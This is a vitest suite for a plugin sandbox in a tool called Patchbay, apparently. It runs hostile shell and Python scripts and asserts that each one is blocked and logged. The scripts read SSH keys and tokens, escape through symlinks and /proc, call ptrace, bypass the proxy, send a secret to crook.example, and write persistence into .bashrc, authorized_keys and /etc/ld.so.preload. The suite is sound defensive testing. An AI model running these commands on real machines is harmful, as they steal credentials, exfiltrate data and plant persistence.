import { createSocket as createUdp } from "node:dgram";
import { once } from "node:events";
import { existsSync } from "node:fs";
import { mkdir, readFile, symlink, writeFile } from "node:fs/promises";
import { createServer, type IncomingMessage } from "node:http";
import type { AddressInfo } from "node:net";
import { homedir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { ProgramsWorld } from "./programs-world.ts";

/**
 * Scripts of a plugin that attack from behind their wall. Each gets nothing, and the person is told of the attempt where
 * there is something to tell: `refused` is what becomes a line of the log, of Activity and of the audit.
 */

let world: ProgramsWorld;
let reached: string[];
const server = createServer((request: IncomingMessage, answer) => {
  reached.push(`${request.method} ${request.url}`);
  answer.end("welcome");
});
const port = () => (server.address() as AddressInfo).port;

beforeAll(async () => {
  reached = [];
  world = await ProgramsWorld.open();
  await writeFile(join(world.home, "vault.key"), "THE-KEY");
  await writeFile(join(world.home, "gateway.json"), '{"token":"THE-TOKEN"}');
  await mkdir(join(world.home, "agents", "bob", "workspace"), { recursive: true });
  await writeFile(join(world.home, "agents", "bob", "workspace", "diary"), "BOBS-DIARY");
  await mkdir(join(world.home, "plugins", "other"), { recursive: true });
  await writeFile(join(world.home, "plugins", "other", "code"), "OTHERS-CODE");
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
});
afterAll(async () => {
  server.close();
  await world[Symbol.asyncDispose]();
});

const hasSeen = (target: string | RegExp) =>
  expect.arrayContaining([
    expect.objectContaining({
      target: typeof target === "string" ? target : expect.stringMatching(target),
      seenBy: "wall",
    }),
  ]);

test("a script that reads the person's SSH keys gets an empty file, and that is seen", async () => {
  const { text, refused } = await world.run("cat ~/.ssh/id_rsa ~/.ssh/id_ed25519 | wc -c; ls ~/.ssh | wc -l");
  expect(text).toBe("0\n4\n");
  expect(refused).toEqual(hasSeen(join(homedir(), ".ssh/id_rsa")));
});

test("a script that reads Patchbay's token and key gets neither, and that is seen", async () => {
  const { text, refused } = await world.run(`cat ${world.home}/vault.key ${world.home}/gateway.json`);
  expect(text).not.toMatch(/THE-/);
  expect(refused).toEqual(hasSeen(join(world.home, "vault.key")));
  expect(refused).toEqual(hasSeen(join(world.home, "gateway.json")));
});

test("a script sees no workspace of another agent and no files of another plugin, and that is seen", async () => {
  const { text, refused } = await world.run(
    `cd ${world.home}; find . -type f; cat agents/bob/workspace/diary plugins/other/code ../*/agents/bob/workspace/diary`,
  );
  expect(text).not.toMatch(/BOBS-DIARY|OTHERS-CODE/);
  expect(refused).toEqual(hasSeen(join(world.home, "agents/bob/workspace/diary")));
  expect(refused).toEqual(hasSeen(join(world.home, "plugins/other/code")));
});

test("links and odd spellings lead a script nowhere else, and that is seen", async () => {
  await symlink(join(world.home, "vault.key"), join(world.workspace, "link"));
  await symlink(world.home, join(world.workspace, "folder"));
  const { text, refused } = await world.run(
    `cat link folder/vault.key ./../../../vault.key //${world.home}//vault.key /proc/self/cwd/../../../vault.key /proc/self/root${world.home}/vault.key`,
  );
  expect(text).not.toContain("THE-KEY");
  expect(refused).toEqual(hasSeen(join(world.home, "vault.key")));
});

test("a script sees no process of the system, and of Patchbay neither environment nor files; trying is seen", async () => {
  const { text, refused } = await world.run(
    `ls /proc | grep -c '^[0-9]'; cat /proc/${process.pid}/environ; ls /proc/${process.pid}/root; cat /proc/1/environ | tr '\\0' '\\n' | grep -c PATCHBAY`,
  );
  expect(Number(text.split("\n")[0])).toBeLessThan(10);
  expect(text).toMatch(/No such file/);
  expect(text.trim().split("\n").at(-1)).toBe("0");
  expect(refused).toEqual(hasSeen(`/proc/${process.pid}/environ`));
});

test("a script cannot end Patchbay or trace another process, and that is seen", async () => {
  const { text, code, refused } = await world.run(
    `kill -9 ${process.pid} || echo no; sleep 5 & python3 - $! <<'X'
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
print("traced", libc.ptrace(16, int(sys.argv[1]), 0, 0), ctypes.get_errno())
X
kill %1`,
  );
  expect(text).toContain("no\n");
  expect(text).toContain("traced -1 1\n");
  expect(refused).toEqual(hasSeen(`process ${process.pid}`));
  expect(refused).toEqual(hasSeen("the system call ptrace"));
  expect(code).toBe(0);
});

test("no file that Patchbay has open reaches a script (nothing to see: it lists its own)", async () => {
  const { text } = await world.run("ls /proc/self/fd | tr '\\n' ' '");
  expect(text).toBe("0 1 2 3 ");
});

test("a script that listens on every address is reached by nobody outside, and that is seen", async () => {
  const running = world.run(
    "python3 -um http.server 48123 --bind 0.0.0.0 > served & until [ -e tried ]; do sleep 0.1; done; kill $!",
  );
  await expect.poll(() => readFile(join(world.workspace, "served"), "utf8")).toContain("port 48123");
  await expect(fetch("http://127.0.0.1:48123/")).rejects.toThrow();
  await writeFile(join(world.workspace, "tried"), "");
  expect((await running).refused).toEqual(hasSeen("anyone who connects to port 48123"));
});

test("a script that connects to an address past the proxy reaches nothing, and that is seen", async () => {
  const { text, refused } = await world.run(
    `curl -sS --noproxy '*' http://127.0.0.1:${port()}/direct; curl -sS --noproxy '*' http://192.0.2.1/; sleep 3`,
  );
  expect(text).toMatch(/Failed to connect/);
  expect(reached).toEqual([]);
  expect(refused).toEqual(hasSeen(/past Patchbay's proxy/));
});

test("a script that hides words in names it looks up sends no packet, and that is seen", async () => {
  const udp = createUdp("udp4");
  const packets: string[] = [];
  udp.on("message", (packet) => void packets.push(packet.toString("latin1")));
  udp.bind(0, "127.0.0.1");
  await once(udp, "listening");
  const { refused } = await world.run(
    `python3 - <<'X'
import socket, time
for place in [("127.0.0.1", ${udp.address().port}), ("192.0.2.53", 53)]:
    try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret.example", place)
    except OSError as error: print(error)
try: socket.getaddrinfo("secret.crook.example", 80)
except OSError as error: print(error)
time.sleep(3)
X`,
  );
  expect(packets).toEqual([]);
  expect(refused).toEqual(hasSeen(/past Patchbay's proxy/));
  udp.close();
});

test("a script that asks the proxy for a host that nobody allowed is refused, and that is seen", async () => {
  const asked: string[] = [];
  const { text, refused } = await world.run("curl -sS -m 20 https://crook.example/?q=secret", {
    judge: {
      decide: async ({ host, port: at }) => {
        asked.push(`${host}:${at}`);
        return { allowed: false, why: "Nobody allowed it." };
      },
    },
  });
  expect(asked).toEqual(["crook.example:443"]);
  expect(text).toMatch(/403/);
  expect(refused).toEqual(hasSeen("crook.example:443"));
});

test("what builds a package reaches nothing on this computer, and that is seen", async () => {
  const { text, refused } = await world.run(
    `curl -sS http://127.0.0.1:${port()}/inner http://localhost:${port()}/x`,
  );
  expect(text).toContain("which nobody allowed");
  expect(reached).toEqual([]);
  expect(refused).toEqual(hasSeen(`127.0.0.1:${port()}`));
});

test("with the host allowed, the same script reaches it, by a request and through a tunnel", async () => {
  const allowed = { decide: async () => ({ allowed: true }) as const };
  const at = `http://127.0.0.1:${port()}`;
  const { text } = await world.run(`curl -sS ${at}/one; curl -sS -p ${at}/two -d body`, { judge: allowed });
  expect(text).toBe("welcomewelcome");
  expect(reached.splice(0)).toEqual(["GET /one", "POST /two"]);
});

test("a script that adds to shell profiles, autostart and authorised keys changes nothing, and that is seen", async () => {
  const before = await readFile(join(homedir(), ".bashrc"), "utf8").catch(() => null);
  const { refused } = await world.run(
    "echo evil >> ~/.bashrc; echo evil > ~/.config/autostart/evil.desktop; echo evil >> ~/.ssh/authorized_keys",
  );
  expect(await readFile(join(homedir(), ".bashrc"), "utf8").catch(() => null)).toBe(before);
  expect(existsSync(join(homedir(), ".config/autostart/evil.desktop"))).toBe(false);
  for (const name of [".bashrc", ".config/autostart/evil.desktop", ".ssh/authorized_keys"])
    expect(refused).toEqual(hasSeen(join(homedir(), name)));
});

test("a script cannot change its own files, those of the system or its account, and that is seen", async () => {
  await writeFile(join(world.dir, "own"), "own");
  const { text, refused } = await world.run(
    `echo x > ${world.dir}/own; echo x > ${world.dir}/new; echo x > /usr/bin/evil; echo x > /etc/passwd; echo x > /etc/ld.so.preload`,
  );
  expect(text.match(/Read-only file system|Permission denied/g)?.length).toBeGreaterThanOrEqual(4);
  expect(await readFile(join(world.dir, "own"), "utf8")).toBe("own");
  expect(existsSync("/etc/ld.so.preload")).toBe(false);
  for (const path of ["/usr/bin/evil", "/etc/passwd", "/etc/ld.so.preload"])
    expect(refused).toEqual(hasSeen(path));
});
